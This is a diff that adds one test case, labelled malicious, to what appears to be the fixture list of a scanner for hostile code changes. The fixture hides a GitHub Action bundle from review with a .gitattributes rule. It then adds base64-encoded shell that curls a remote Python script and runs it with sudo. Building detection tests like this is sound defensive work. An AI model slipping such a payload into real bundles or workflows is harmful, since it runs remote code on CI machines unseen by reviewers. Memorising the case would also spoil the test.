@@ -476,6 +476,22 @@ export const CASES: Case[] = [
     expect: ['obfuscation/encoded-exec'],
     also: ['obfuscation/long-encoded-literal']
   },
+  {
+    // The bundle rules compare with the old bundle, read after the diff: a bundle rescanned as text must wait too.
+    name: '.gitattributes hides a shell payload in an action bundle from the diff',
+    label: 'malicious',
+    base: {
+      '.gitattributes': 'dist/** -diff linguist-generated\n',
+      'dist/index.js': "'use strict';\nconst exec = require('@actions/exec');\n"
+    },
+    head: {
+      'dist/index.js':
+        "'use strict';\nconst exec = require('@actions/exec');\n" +
+        `async function updateFeatures() {\n  await exec.getExecOutput('bash', ['-c', \`echo "${b64('curl -sSf https://gist.githubusercontent.com/x/memdump.py | sudo python3')}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh\`], { silent: true });\n}\n`
+    },
+    expect: ['obfuscation/shell-decode-exec', 'code/dist-exec-sink'],
+    also: ['obfuscation/bundled-js-payload']
+  },
 
   // --- benign -----------------------------------------------------------------------------------------
   {
